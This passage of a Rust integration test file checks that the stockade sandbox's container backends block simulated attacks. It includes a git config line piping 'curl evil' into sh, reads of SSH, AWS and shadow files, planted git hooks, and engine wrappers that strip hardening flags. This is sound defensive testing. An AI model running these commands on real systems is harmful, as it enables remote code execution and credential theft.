//! The container backends (`stockade run --backend podman|docker`) under real attacks:
//! secrets, writes outside the workspace, protected paths, the environment, the network, the
//! engine's socket, limits; each with a control that shows the same snippet succeeds
//! without the protection. Every test runs under each engine this caller can use: as root,
//! Podman and Docker (the daemon's); as an unprivileged user, rootless Podman (and Docker
//! when the daemon's socket is theirs).
//!
//! An engine that is missing or does not answer is skipped, saying why; under `.ci/run`
//! (`STOCKADE_REQUIRE_AGENT_CLIS=1`) a root caller's missing engine, or a regular user's
//! rootless Podman, fails instead (scripts/test installs both and starts `dockerd`).

#![allow(clippy::expect_used)]

use std::path::Path;

use attacks::{read_json, sh_quote, write_file, Cmd, Fixture};

/// The engines this caller can use, each checked with `stockade doctor --backend E`.
fn engines() -> Vec<&'static str> {
    static FOUND: std::sync::OnceLock<Vec<&'static str>> = std::sync::OnceLock::new();
    FOUND
        .get_or_init(|| {
            let mut found = Vec::new();
            // The tests name their backend: one pass (the native one) runs them.
            if attacks::backend() != "native" {
                println!(
                    "n/a under {}: the container tests choose their backend themselves",
                    attacks::backend()
                );
                return found;
            }
            for engine in ["podman", "docker"] {
                // With the tests' own store, which the probe's run then masks as the tests'
                // runs do (another store's exited containers keep their `shm` mounted, and
                // the check inside refuses a writable mount nobody planned).
                let out = std::process::Command::new(attacks::stockade_bin())
                    .args(["doctor", "--json", "--backend", engine])
                    .env("PATH", attacks::PATH)
                    .env("XDG_DATA_HOME", data_home())
                    .output()
                    .expect("run stockade doctor");
                let v: serde_json::Value =
                    serde_json::from_slice(&out.stdout).unwrap_or(serde_json::Value::Null);
                if v["ok"] == true {
                    found.push(engine);
                    continue;
                }
                let why = v["checks"]
                    .as_array()
                    .and_then(|c| c.iter().find(|c| c["ok"] != true))
                    .map(|c| format!("{}: {}", c["name"], c["detail"]))
                    .unwrap_or_else(|| String::from_utf8_lossy(&out.stderr).into_owned());
                // Under .ci/run every engine this caller should have is required: both as
                // root, rootless Podman as a regular user (a skip would make every test here
                // pass without running).
                let required = (attacks::is_root() || engine == "podman")
                    && std::env::var_os("STOCKADE_REQUIRE_AGENT_CLIS").is_some_and(|v| v == "1");
                assert!(
                    !required,
                    "{engine} is required here and does not work: {why}"
                );
                eprintln!("SKIP {engine}: {why}");
            }
            found
        })
        .clone()
}

/// The unprivileged id a root caller's container runs as: it owns the fixture (a root
/// caller's command runs as the workspace's owner).
const TEST_USER: &str = "stockade-test";

/// A fixture for the container backends: owned by [`TEST_USER`] when the caller is root.
fn fixture() -> Fixture {
    let fx = Fixture::new();
    if attacks::is_root() {
        attacks::chown_to(&fx.root, &format!("{TEST_USER}:"));
    }
    fx
}

fn opts<'a>(engine: &'a str, more: &[&'a str]) -> Vec<&'a str> {
    let mut o = vec!["--backend", engine];
    // Rootless Podman on cgroup v1 cannot bound memory whole (see memory_is_bounded): its
    // runs go without the default limit.
    if rootless(engine) && !more.contains(&"--memory") {
        o.extend(["--memory", "0"]);
    }
    o.extend_from_slice(more);
    o
}

fn rootless(engine: &str) -> bool {
    engine == "podman" && !attacks::is_root()
}

fn attack(fx: &Fixture, engine: &str, more: &[&str], script: &str) -> attacks::Outcome {
    attack_cmd(fx, &opts(engine, more), script).outcome()
}

/// Where rootless Podman keeps its images and containers for every test of this user: one
/// store (a store per fixture's home would put each test's containers in every other test's
/// view, below the shared /var/tmp, and import the image once per test).
fn data_home() -> std::path::PathBuf {
    let dir = std::path::PathBuf::from(format!(
        "/var/tmp/stockade-container-tests-{}",
        attacks::euid()
    ));
    std::fs::create_dir_all(&dir).expect("create the shared data directory");
    dir
}

fn engine_env(cmd: Cmd) -> Cmd {
    cmd.env("XDG_DATA_HOME", data_home())
}

fn sandbox(fx: &Fixture, opts: &[&str], script: &str) -> Cmd {
    engine_env(fx.sandbox(opts, script))
}

fn sandbox_argv(fx: &Fixture, opts: &[&str], argv: &[&str]) -> Cmd {
    engine_env(fx.sandbox_argv(opts, argv))
}

fn attack_cmd(fx: &Fixture, opts: &[&str], script: &str) -> Cmd {
    engine_env(fx.attack(opts, script))
}

#[test]
fn runs_a_command_with_its_output_input_and_exit_code() {
    for engine in engines() {
        let fx = fixture();
        sandbox(
            &fx,
            &opts(engine, &[]),
            "echo out; echo err >&2; cat; exit 7",
        )
        .stdin("from stdin\n")
        .run()
        .assert_code(7)
        .assert_stdout_contains("out\nfrom stdin\n")
        .assert_stderr_contains("err\n");
        // A missing command: 127, named as under the native backend.
        sandbox_argv(&fx, &opts(engine, &[]), &["no-such-command-here"])
            .run()
            .assert_code(127)
            .assert_stderr_contains("E_COMMAND_NOT_FOUND");
        write_file(&fx.ws.join("script.sh"), "#!/bin/sh\necho ran\n", 0o644);
        sandbox_argv(&fx, &opts(engine, &[]), &["./script.sh"])
            .run()
            .assert_code(126)
            .assert_stderr_contains("E_COMMAND_NOT_EXECUTABLE")
            .assert_lacks("ran\n");
    }
}

/// The command is not the container's pid 1 (an init of the host's is): a signal it has no
/// handler for ends it as natively (as pid 1 the kernel ignored it: `kill -TERM $$` exited 0).
/// Control: the native backend gives the same 143.
#[test]
fn a_signal_ends_the_command_as_natively() {
    for engine in engines() {
        let fx = fixture();
        sandbox(&fx, &opts(engine, &[]), "kill -TERM $$; echo survived")
            .run()
            .assert_code(143)
            .assert_lacks("survived");
        sandbox(&fx, &opts(engine, &[]), "echo $$")
            .run()
            .assert_success()
            .assert_lacks("\n1\n");
    }
    let fx = Fixture::new();
    fx.sandbox(&["--backend", "native"], "kill -TERM $$; echo survived")
        .run()
        .assert_code(143);
}

/// The check runs its own tools (`awk`, `stat`, `readlink`) from the system's `PATH`, never
/// from the command's, which can name a directory of the workspace: planted there, they would
/// answer for the check. The command gets its own `PATH` back. Control: the planted tool runs
/// when the command calls it.
#[test]
fn a_tool_planted_on_the_commands_path_does_not_answer_for_the_check() {
    for engine in engines() {
        let fx = fixture();
        let bin = fx.ws.join("bin");
        for tool in ["awk", "stat", "readlink"] {
            write_file(
                &bin.join(tool),
                format!(
                    "#!/bin/sh\necho ran > {}/ran-{tool}\nexit 0\n",
                    fx.ws.display()
                ),
                0o755,
            );
        }
        let path = format!("{}:{}", bin.display(), attacks::PATH);
        for more in [&[][..], &["--net", "proxy"][..]] {
            sandbox(&fx, &opts(engine, more), "command -v awk")
                .env("PATH", &path)
                .run()
                .assert_success()
                .assert_stdout_contains(&format!("{}/awk", bin.display()));
            for tool in ["awk", "stat", "readlink"] {
                assert!(
                    !fx.ws.join(format!("ran-{tool}")).exists(),
                    "{engine}: {tool} ran"
                );
            }
        }
        // Control: the command's own call runs it.
        sandbox(&fx, &opts(engine, &[]), "awk")
            .env("PATH", &path)
            .run()
            .assert_success();
        assert!(fx.ws.join("ran-awk").exists());
    }
}

/// A root caller's command runs as the workspace's owner, an id that user's other processes on
/// the host share: credential routes are refused (they could act as the command and have the
/// proxy put the caller's secrets on their requests). Control: the native backend, whose
/// command gets an id no process has, takes the same run.
#[test]
fn a_root_callers_credential_routes_are_refused() {
    if attacks::skip_unless_root("a root caller's container runs as the workspace's owner") {
        return;
    }
    let cred = [
        "--net",
        "proxy",
        "--credential",
        "github=env:STOCKADE_TEST_TOKEN",
    ];
    for engine in engines() {
        let fx = fixture();
        sandbox(&fx, &opts(engine, &cred), "echo ran")
            .env("STOCKADE_TEST_TOKEN", "ghp_notarealtoken")
            .run()
            .assert_code(125)
            .assert_stderr_contains("E_PROTECTION_UNAVAILABLE")
            .assert_stderr_contains("credential routes")
            .assert_lacks("ran\n");
        let mut native = vec!["--backend", "native"];
        native.extend(cred);
        fx.sandbox(&native, "echo ran")
            .env("STOCKADE_TEST_TOKEN", "ghp_notarealtoken")
            .run()
            .assert_success()
            .assert_stdout_contains("ran");
    }
}

/// A workspace made by root and given to a user with `chown USER` (its group still root's):
/// the command's group is the owner's own, never root's. Control: the workspace's group is
/// root.
#[test]
fn a_root_group_workspace_gives_the_command_its_owners_group() {
    if attacks::skip_unless_root("a root caller's container runs as the workspace's owner") {
        return;
    }
    for engine in engines() {
        let fx = fixture();
        std::os::unix::fs::chown(&fx.ws, None, Some(0)).expect("chgrp root");
        use std::os::unix::fs::MetadataExt;
        assert_eq!(std::fs::metadata(&fx.ws).expect("stat").gid(), 0);
        let run = sandbox(&fx, &opts(engine, &[]), "id -g; id -G");
        let out = run.run();
        out.assert_success();
        assert!(
            out.stdout.split_whitespace().all(|g| g != "0"),
            "{engine}: {}",
            out.stdout
        );
    }
}

#[test]
fn masked_secrets_are_unreadable() {
    for engine in engines() {
        let fx = fixture();
        for (path, marker) in [
            (fx.home.join(".ssh/id_rsa"), fx.marker("ssh")),
            (fx.home.join(".aws/credentials"), fx.marker("aws")),
            (fx.ws.join(".env"), fx.marker("dotenv")),
            (fx.ws.join("app/.env.production"), fx.marker("dotenvprod")),
        ] {
            let script = format!("cat {}", sh_quote(&path));
            attack(&fx, engine, &[], &script).assert_blocked(&marker);
            // Control: the same container reads the same bytes where no mask covers them.
            fx.host(&format!(
                "cp {} copy.txt && chmod 644 copy.txt",
                sh_quote(&path)
            ))
            .run()
            .assert_success();
            attack(&fx, engine, &[], "cat copy.txt").assert_shows(&marker);
            std::fs::remove_file(fx.ws.join("copy.txt")).expect("remove the copy");
        }
    }
}

#[test]
fn writes_outside_the_workspace_are_refused() {
    for engine in engines() {
        let fx = fixture();
        let target = fx.outside.join("target.txt");
        let script = format!("echo pwned > {}", sh_quote(&target));
        attack(&fx, engine, &[], &script).assert_failed();
        assert_eq!(attacks::read_text(&target).as_deref(), Some("original\n"));
        for dir in ["/usr", "/etc", "/var/tmp"] {
            attack(&fx, engine, &[], &format!("echo x > {dir}/stockade-pwned")).assert_failed();
            assert!(!Path::new(dir).join("stockade-pwned").exists(), "{dir}");
        }
        // Control: the same write where the policy allows it.
        let outside = fx.outside.to_string_lossy().into_owned();
        attack(&fx, engine, &["--allow-write", &outside], &script).assert_ok();
        assert_eq!(attacks::read_text(&target).as_deref(), Some("pwned\n"));
        // The workspace is writable; what the command makes belongs to the workspace's owner.
        attack(&fx, engine, &[], "echo made > made.txt").assert_ok();
        use std::os::unix::fs::MetadataExt;
        let made = std::fs::metadata(fx.ws.join("made.txt")).expect("made.txt");
        let ws = std::fs::metadata(&fx.ws).expect("ws");
        assert_eq!((made.uid(), made.gid()), (ws.uid(), ws.gid()));
    }
}

#[test]
fn git_internals_stay_read_only_and_planted_project_files_are_swept() {
    for engine in engines() {
        let fx = fixture();
        // The command sees a staged copy of the git dir's top level (`workspace::gitstage`):
        // its change to the config is judged after the run, and this one never reaches the
        // host's.
        let out = attack(
            &fx,
            engine,
            &[],
            "printf '[core]\\n\\tfsmonitor = curl evil | sh\\n' >> .git/config",
        );
        assert!(
            out.run.stderr.contains("protected path refused"),
            "{:?}",
            out.run
        );
        assert!(!attacks::read_text(&fx.ws.join(".git/config"))
            .unwrap_or_default()
            .contains("evil"));
        let hook = ".git/hooks/pre-commit";
        let planted = format!("printf '#!/bin/sh\\necho owned\\n' > {hook} && chmod +x {hook}");
        attack(&fx, engine, &[], &planted).assert_failed();
        assert!(attacks::live_hooks(&fx.ws).is_empty());
        // No creation guard: the sweep after the run neutralises a planted project file.
        let report = fx.root.join("report.json");
        let rep = report.to_string_lossy().into_owned();
        attack(
            &fx,
            engine,
            &["--report", &rep],
            "mkdir .vscode && echo '{}' > .vscode/tasks.json",
        )
        .assert_ok();
        assert!(!fx.ws.join(".vscode/tasks.json").exists());
        let record = read_json(&report);
        assert_eq!(record["backend"], engine);
        assert!(
            attacks::json_any_string(&record["violations"], &|s| s.contains(".vscode")),
            "{record}"
        );
        // The record names the engine, the image's id, the container and the exact flags.
        let c = &record["container"];
        assert_eq!(c["engine"], engine, "{record}");
        assert!(
            attacks::json_str(c, "image_id").starts_with("sha256:"),
            "{c}"
        );
        assert!(
            attacks::json_str(c, "container").starts_with("stockade-"),
            "{c}"
        );
        let args: Vec<&str> = (c["args"].as_array().expect("args").iter())
            .filter_map(|a| a.as_str())
            .collect();
        for flag in ["--read-only", "--rm"] {
            assert!(args.contains(&flag), "{flag}: {args:?}");
        }
        assert!(
            args.windows(2).any(|w| w == ["--cap-drop", "ALL"]),
            "{args:?}"
        );
        assert!(
            args.windows(2).any(|w| w == ["--network", "none"]),
            "{args:?}"
        );
        // Control: a plain file of the workspace is written and stays.
        attack(&fx, engine, &[], "echo ok > notes.txt").assert_ok();
        assert!(fx.ws.join("notes.txt").exists());
    }
}

#[test]
fn environment_is_scrubbed_and_values_stay_off_the_engines_command_line() {
    for engine in engines() {
        let fx = fixture();
        let secret = fx.marker("envsecret");
        let report = fx.root.join("report.json");
        let rep = report.to_string_lossy().into_owned();
        let script = "env; cat /proc/self/environ | tr '\\0' '\\n'";
        attack_cmd(&fx, &opts(engine, &["--report", &rep]), script)
            .env("GITHUB_TOKEN", &secret)
            .outcome()
            .assert_hidden(&secret)
            .assert_lacks("STOCKADE_CHECK_");
        // A value the policy passes reaches the command, by name only on the engine's command
        // line.
        let passed = fx.marker("passed");
        attack_cmd(
            &fx,
            &opts(engine, &["--report", &rep, "--env", "MY_SETTING"]),
            "echo \"$MY_SETTING\"",
        )
        .env("MY_SETTING", &passed)
        .outcome()
        .assert_shows(&passed);
        let record = read_json(&report);
        assert!(
            !attacks::json_any_string(&record["container"]["args"], &|s| s.contains(&passed)),
            "{record}"
        );
        // A variable name that an env file reads as two lines, the first a name alone: the
        // engine would copy that variable from stockade's own environment.
        sandbox(
            &fx,
            &opts(engine, &["--env", "GITHUB_TOKEN\nHARMLESS=1"]),
            "env",
        )
        .env("GITHUB_TOKEN", &secret)
        .run()
        .assert_code(125)
        .assert_stderr_contains("E_")
        .assert_lacks(&secret);
        // Control: such a line, given to the engine, copies the caller's variable in.
        let env_file = fx.root.join("env-file");
        write_file(&env_file, "GITHUB_TOKEN\nHARMLESS=1\n", 0o644);
        let image = image_of(&fx, engine);
        let out = bare_run(&fx, engine)
            .args(["--rm", "--network", "none", "--pull", "never", "--env-file"])
            .arg(&env_file)
            .args(["--mount", "type=bind,src=/usr,dst=/usr,ro=true"])
            .arg(&image)
            .args(["/usr/bin/env"])
            .env("GITHUB_TOKEN", &secret)
            .output()
            .expect("run the engine");
        assert!(
            String::from_utf8_lossy(&out.stdout).contains(&secret),
            "{out:?}"
        );
    }
}

#[test]
fn no_network_no_capabilities_no_engine_socket() {
    for engine in engines() {
        let fx = fixture();
        // Only loopback, of the container's own.
        attack(&fx, engine, &[], "ls /sys/class/net | grep -vx lo").assert_failed();
        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
        let port = listener.local_addr().expect("addr").port();
        let reach = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo REACHED");
        attack(&fx, engine, &[], &format!("bash -c {}", sh_quote(&reach)))
            .assert_blocked("REACHED");
        // Control: --net host reaches the host's loopback.
        attack(
            &fx,
            engine,
            &["--net", "host"],
            &format!("bash -c {}", sh_quote(&reach)),
        )
        .assert_shows("REACHED");
        drop(listener);
        // No capability in any set, no_new_privs, a seccomp filter.
        attack(
            &fx,
            engine,
            &[],
            "grep -E '^(CapEff|CapPrm|CapBnd):' /proc/self/status | grep -v 0000000000000000",
        )
        .assert_failed();
        // The engine's socket (root on the host to whoever reaches it) is not there.
        attack(
            &fx,
            engine,
            &[],
            "ls -la /run/docker.sock /var/run/docker.sock /run/podman/podman.sock",
        )
        .assert_failed();
        if attacks::is_root() {
            // Files only root may read stay unreadable (the command is never root on the host).
            attack(&fx, engine, &[], "head -c 1 /etc/shadow").assert_failed();
            fx.host("head -c 1 /etc/shadow >/dev/null")
                .run()
                .assert_success();
        }
    }
}

/// Everyday git config writes work (git renames `config.lock` over the config, which a
/// read-only bind of it refused with EBUSY): the command sees a staged copy of the git dir's
/// top level and an inert change comes back after the run; a change that sets a key git
/// runs is refused whole, the host's config unchanged. Control: the same live key set on the
/// host is taken by git (the refusal is the judge's, not git's).
#[test]
fn everyday_git_config_writes_work_and_a_live_key_is_refused_whole() {
    for engine in engines() {
        let fx = fixture();
        let git = |args: &str| {
            fx.host(&format!("git -c safe.directory='*' {args}"))
                .run()
                .assert_success()
                .stdout
                .trim()
                .to_owned()
        };
        attack(
            &fx,
            engine,
            &[],
            "git config user.name Inside && git remote add mirror https://example.invalid/x.git \
             && git config branch.main.remote mirror",
        )
        .assert_ok();
        assert_eq!(git("config --get user.name"), "Inside");
        assert_eq!(
            git("config --get remote.mirror.url"),
            "https://example.invalid/x.git"
        );
        assert_eq!(git("config --get branch.main.remote"), "mirror");
        let config = fx.ws.join(".git/config");
        let before = attacks::read_text(&config).expect("config");
        let out = attack(
            &fx,
            engine,
            &[],
            "git config user.email in@side && git config core.fsmonitor 'touch /tmp/owned'",
        );
        out.assert_ok();
        assert!(
            out.run.stderr.contains("protected path refused"),
            "{:?}",
            out.run
        );
        assert_eq!(attacks::read_text(&config).expect("config"), before);
        assert!(fx.ws.join(".git/config.stockade-refused").exists());
        // Control: git itself takes the key (set on the host).
        git("config core.fsmonitor 'touch /tmp/owned'");
        assert_eq!(git("config --get core.fsmonitor"), "touch /tmp/owned");
    }
}

/// A git dir of another owner than the workspace's (root's, in a workspace given to a user) is
/// not staged: the command would get its copy, root's 0600 config included, and root's remote
/// URL set inside would come back as an inert change (red team). A stopped operation's
/// directory holding another owner's file refuses the staging. Control: the same git dir
/// given to the workspace's owner is staged (its config read).
#[test]
fn staged_git_dirs_are_only_the_workspace_owners() {
    if attacks::skip_unless_root("a root caller's container runs as the workspace's owner") {
        return;
    }
    for engine in engines() {
        let fx = fixture();
        attacks::staged_git_owner_attack(&fx, &format!("{TEST_USER}:"), |script| {
            sandbox(&fx, &opts(engine, &[]), script).run()
        });
    }
}

/// An HTTP server on `listener` answering every request with `body`, until the test ends.
fn serve_marker(listener: std::net::TcpListener, body: String) {
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            let Ok(mut conn) = conn else { continue };
            let body = body.clone();
            std::thread::spawn(move || {
                use std::io::{BufRead, Write};
                let mut reader = std::io::BufReader::new(conn.try_clone().expect("clone"));
                let mut line = String::new();
                while reader.read_line(&mut line).is_ok_and(|n| n > 0) {
                    if line == "\r\n" {
                        break;
                    }
                    line.clear();
                }
                let _ = write!(
                    conn,
                    "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
                    body.len()
                );
            });
        }
    });
}

/// `--net proxy`: the command reaches an allowed host only through stockade's proxy, listening
/// on the container's own loopback; another host is refused by the proxy, and no address is
/// reached directly. Control: the same server answers a direct request from where stockade
/// runs. As root (a test network of its own); an unprivileged caller's rootless Podman is
/// checked against the proxy's refusal and the container's interfaces.
#[test]
fn net_proxy_reaches_allowed_hosts_through_the_proxy_only() {
    use attacks::test_net::{TestNet, SERVER_IP};
    for engine in engines() {
        let fx = fixture();
        let proxy_opts = ["--net", "proxy", "--allow-domain", "allowed.test"];
        if !attacks::is_root() {
            let out = attack(
                &fx,
                engine,
                &proxy_opts,
                "ls /sys/class/net; curl -sS -m 10 -o /dev/null -w 'other=%{http_code}\n' http://other.test/",
            );
            out.assert_output_contains("other=403");
            assert!(out.run.stderr.contains("E_NETWORK_DENIED"), "{:?}", out.run);
            assert!(!out.run.stdout.contains("eth"), "{:?}", out.run);
            continue;
        }
        let net = TestNet::new();
        let marker = fx.marker("site");
        serve_marker(
            TestNet::tcp(&net.server, &format!("{SERVER_IP}:80")),
            marker.clone(),
        );
        let pre = net.prefix(
            &fx,
            &format!("127.0.0.1 localhost\n{SERVER_IP} allowed.test other.test\n"),
        );
        let direct = format!("curl -sS -m 5 --noproxy '*' http://{SERVER_IP}/");
        let out = attack_cmd(
            &fx,
            &opts(engine, &proxy_opts),
            &format!(
                "curl -sS -m 10 http://allowed.test/; echo; \
                 curl -sS -m 10 -o /dev/null -w 'other=%{{http_code}}\n' http://other.test/; \
                 {direct} && echo DIRECT-REACHED; true"
            ),
        )
        .under(&pre)
        .outcome();
        out.assert_shows(&marker)
            .assert_output_contains("other=403");
        assert!(!out.run.stdout.contains("DIRECT-REACHED"), "{:?}", out.run);
        assert!(out.run.stderr.contains("E_NETWORK_DENIED"), "{:?}", out.run);
        // Control: the server answers a direct request from where stockade runs.
        let control = fx.host(&direct).under(&pre).run();
        assert!(control.stdout.contains(&marker), "control: {control:?}");
    }
}

/// A wrapper in front of the real engine that gives it `to` where stockade gave `from` (one
/// argument, or an argument and the value after it), and passes everything else on.
fn lying_engine(fx: &Fixture, engine: &str, from: &[&str], to: &[&str]) -> std::path::PathBuf {
    let real = attacks::which(engine).expect("the engine");
    let dir = fx
        .root
        .join(format!("lying-{}", from.join("-").replace('/', "_")));
    attacks::mkdir(&dir);
    let (first, rest) = from.split_first().expect("something to replace");
    let skip_next = !rest.is_empty();
    let to: Vec<String> = to.iter().map(sh_quote).collect();
    let script = format!(
        "#!/bin/bash\nargs=()\nskip=0\nfor a in \"$@\"; do\n  if [ $skip = 1 ]; then skip=0; continue; fi\n  if [ \"$a\" = {} ]; then skip={}; args+=({}); continue; fi\n  args+=(\"$a\")\ndone\nexec {} \"${{args[@]}}\"\n",
        sh_quote(first),
        u8::from(skip_next),
        to.join(" "),
        sh_quote(&real),
    );
    write_file(&dir.join(engine), script, 0o755);
    dir
}

fn with_path(cmd: Cmd, first: &Path) -> Cmd {
    cmd.env("PATH", format!("{}:{}", first.display(), attacks::PATH))
}

#[test]
fn an_engine_that_ignores_a_hardening_flag_is_refused() {
    for engine in engines() {
        let fx = fixture();
        let marker = fx.marker("ran");
        let script = format!("echo {marker}");
        for (from, to) in [
            (&["--cap-drop", "ALL"][..], &["--cap-drop", "NET_RAW"][..]),
            (&["--read-only"][..], &[][..]),
            (&["--network", "none"][..], &["--network", "host"][..]),
            (
                &["--security-opt", "no-new-privileges"][..],
                &["--security-opt", "label=disable"][..],
            ),
        ] {
            let dir = lying_engine(&fx, engine, from, to);
            let run = with_path(sandbox(&fx, &opts(engine, &[]), &script), &dir).run();
            run.assert_code(125)
                .assert_stderr_contains("E_PROTECTION_UNAVAILABLE")
                .assert_stderr_contains(from[0])
                .assert_lacks(&marker);
        }
        // Limits held by the container's cgroup (root engines): dropped, the run is refused.
        if attacks::is_root() {
            for flag in ["--pids-limit", "--memory"] {
                let mut dir = lying_engine(&fx, engine, &[flag, "any"], &[]);
                if flag == "--memory" {
                    // The engines refuse --memory-swap alone: both go.
                    let real = attacks::which(engine).expect("the engine");
                    dir = fx.root.join("no-memory");
                    attacks::mkdir(&dir);
                    write_file(
                        &dir.join(engine),
                        format!(
                            "#!/bin/bash\nargs=()\nskip=0\nfor a in \"$@\"; do\n  if [ $skip = 1 ]; then skip=0; continue; fi\n  case $a in --memory|--memory-swap) skip=1; continue;; esac\n  args+=(\"$a\")\ndone\nexec {} \"${{args[@]}}\"\n",
                            sh_quote(&real)
                        ),
                        0o755,
                    );
                }
                with_path(sandbox(&fx, &opts(engine, &[]), &script), &dir)
                    .run()
                    .assert_code(125)
                    .assert_stderr_contains(flag)
                    .assert_lacks(&marker);
            }
        }
        // A host directory bound writable instead of read-only.
        let real = attacks::which(engine).expect("the engine");
        let dir = fx.root.join("writable-etc");
        attacks::mkdir(&dir);
        write_file(
            &dir.join(engine),
            format!(
                "#!/bin/bash\nargs=()\nfor a in \"$@\"; do args+=(\"${{a/dst=\\/etc,ro=true/dst=\\/etc}}\"); done\nexec {} \"${{args[@]}}\"\n",
                sh_quote(&real)
            ),
            0o755,
        );
        with_path(sandbox(&fx, &opts(engine, &[]), &script), &dir)
            .run()
            .assert_code(125)
            .assert_stderr_contains("/etc is writable")
            .assert_lacks(&marker);
        // Control: the same wrapper changing nothing that matters runs the command.
        let dir = lying_engine(&fx, engine, &["--no-such-flag"], &[]);
        with_path(sandbox(&fx, &opts(engine, &[]), &script), &dir)
            .run()
            .assert_success()
            .assert_stdout_contains(&marker);
    }
}

#[test]
fn a_mask_the_engine_fills_is_refused() {
    // Podman copies what lies below a new tmpfs into it unless told not to: without
    // `notmpcopyup` a masked directory would show the secrets it masks.
    if !engines().contains(&"podman") {
        return;
    }
    let fx = fixture();
    let marker = fx.marker("ssh");
    let real = attacks::which("podman").expect("podman");
    let dir = fx.root.join("copyup");
    attacks::mkdir(&dir);
    let script = format!(
        "#!/bin/bash\nargs=()\nfor a in \"$@\"; do a=\"${{a//,notmpcopyup/}}\"; args+=(\"${{a//tmpfs-size=4096/tmpfs-size=1048576}}\"); done\nexec {} \"${{args[@]}}\"\n",
        sh_quote(&real)
    );
    write_file(&dir.join("podman"), script, 0o755);
    let run = with_path(
        sandbox(&fx, &opts("podman", &[]), "cat \"$HOME/.ssh/id_rsa\""),
        &dir,
    )
    .run();
    // Refused by the check (exit 125), or by the engine itself when what it would copy does
    // not fit: never the secret.
    run.assert_failure().assert_lacks(&marker);
    assert!(
        run.stderr.contains("masked directory") || run.stderr.contains("tmpcopyup"),
        "{}",
        run.describe()
    );
}

#[test]
fn a_missing_engine_is_refused_with_the_fix() {
    let fx = fixture();
    for engine in ["podman", "docker"] {
        sandbox(&fx, &opts(engine, &["--json"]), "echo ran")
            .env("PATH", "/nonexistent")
            .run()
            .assert_code(125)
            .assert_stderr_contains("E_PROTECTION_UNAVAILABLE")
            .assert_stderr_contains(&format!("no `{engine}` on PATH"))
            .assert_lacks("ran\n");
    }
}

#[test]
fn keep_leaves_the_container_and_says_how_to_remove_it() {
    for engine in engines() {
        let fx = fixture();
        let report = fx.root.join("report.json");
        let rep = report.to_string_lossy().into_owned();
        attack(&fx, engine, &["--keep", "--report", &rep], "true").assert_ok();
        let record = read_json(&report);
        let name = attacks::json_str(&record["container"], "container").to_owned();
        let kept = attacks::json_str(&record["container"], "kept").to_owned();
        assert_eq!(kept, format!("{engine} rm --force --volumes {name}"));
        let exists = |name: &str| {
            std::process::Command::new(engine)
                .args(["container", "inspect", name])
                .env("PATH", attacks::PATH)
                // Rootless Podman's store: the tests' shared one.
                .env("HOME", &fx.home)
                .env("XDG_DATA_HOME", data_home())
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::null())
                .status()
                .is_ok_and(|s| s.success())
        };
        assert!(exists(&name), "{name} was not kept");
        engine_env(fx.host(&kept)).run().assert_success();
        assert!(!exists(&name));
        // Control: without --keep, nothing is left.
        attack(&fx, engine, &["--report", &rep], "true").assert_ok();
        let record = read_json(&report);
        let name = attacks::json_str(&record["container"], "container").to_owned();
        assert!(!exists(&name), "{name} was left behind");
    }
}

/// The names of this engine's running containers that contain `part` (the tests' store).
fn running(fx: &Fixture, engine: &str, part: &str) -> Vec<String> {
    let out = std::process::Command::new(attacks::which(engine).expect("the engine"))
        .args(["ps", "--format", "{{.Names}}"])
        .env("PATH", attacks::PATH)
        .env("HOME", &fx.home)
        .env("XDG_DATA_HOME", data_home())
        .output()
        .expect("run the engine");
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter(|l| l.contains(part))
        .map(str::to_owned)
        .collect()
}

/// Waits (up to `secs`) until `done` holds.
fn wait_until(secs: u64, mut done: impl FnMut() -> bool) -> bool {
    let began = std::time::Instant::now();
    while began.elapsed().as_secs() < secs {
        if done() {
            return true;
        }
        std::thread::sleep(std::time::Duration::from_millis(250));
    }
    done()
}

/// stockade killed outright (SIGKILL) during a run: the engine keeps a container running
/// when its client dies (Docker's daemon, Podman's conmon), so the command would run on
/// unsupervised, past its time limit and never swept. The run's watchdog ends the container.
/// Control: a bare engine run whose client is killed so leaves its container running.
#[test]
fn a_killed_stockade_leaves_no_container_running() {
    for engine in engines() {
        let fx = fixture();
        // Control: a bare run of the default image, its client killed.
        let image = image_of(&fx, engine);
        let control = format!("stockade-test-control-{}", std::process::id());
        let mut bare = bare_run(&fx, engine)
            .args([
                "--rm",
                "--network",
                "none",
                "--pull",
                "never",
                "--name",
                &control,
            ])
            .args(["--mount", "type=bind,src=/usr,dst=/usr,ro=true"])
            .arg(&image)
            .args(["/usr/bin/sleep", "60"])
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("run the engine");
        let up = wait_until(30, || !running(&fx, engine, &control).is_empty());
        let _ = bare.kill();
        let _ = bare.wait();
        std::thread::sleep(std::time::Duration::from_secs(5));
        let left = running(&fx, engine, &control);
        let _ = std::process::Command::new(attacks::which(engine).expect("the engine"))
            .args(["rm", "--force", &control])
            .env("PATH", attacks::PATH)
            .env("HOME", &fx.home)
            .env("XDG_DATA_HOME", data_home())
            .output();
        assert!(up, "{engine}: control: the bare container never ran");
        assert!(
            !left.is_empty(),
            "{engine}: control: the bare container ended with its client"
        );
        // stockade's run, killed outright once its container runs. Its name holds the run's
        // id, `MILLIS-PID`.
        let mut run = engine_env(fx.sandbox(&opts(engine, &[]), "sleep 60")).spawn();
        let part = format!("-{}", run.id());
        let up = wait_until(60, || !running(&fx, engine, &part).is_empty());
        assert!(up, "{engine}: the run's container never ran");
        let files = private_files(&fx, engine, &running(&fx, engine, &part)[0]);
        assert!(
            files.as_ref().is_some_and(|f| f.is_dir()),
            "{engine}: the run's private files were not found: {files:?}"
        );
        let _ = run.kill();
        let _ = run.wait();
        let gone = wait_until(30, || running(&fx, engine, &part).is_empty());
        assert!(
            gone,
            "{engine}: the container outlived stockade: {:?}",
            running(&fx, engine, &part)
        );
        // Its private files (the environment file, the seccomp profile) go too.
        let files = files.expect("checked above");
        assert!(
            wait_until(30, || !files.exists()),
            "{engine}: the run's private files outlived it: {}",
            files.display()
        );
    }
}

/// Red team of the run's private files: a root caller's command runs as the workspace's
/// owner, whose processes on the host could reach the staged copy of a git dir in the run's
/// private directory (through its 0755 and 0711 parents) and move a tree of their own into it,
/// holding root's files: root's removal of the run's files then deleted root's files the user
/// could not delete, and the copy back after the run gave root's 0600 file to the user (as
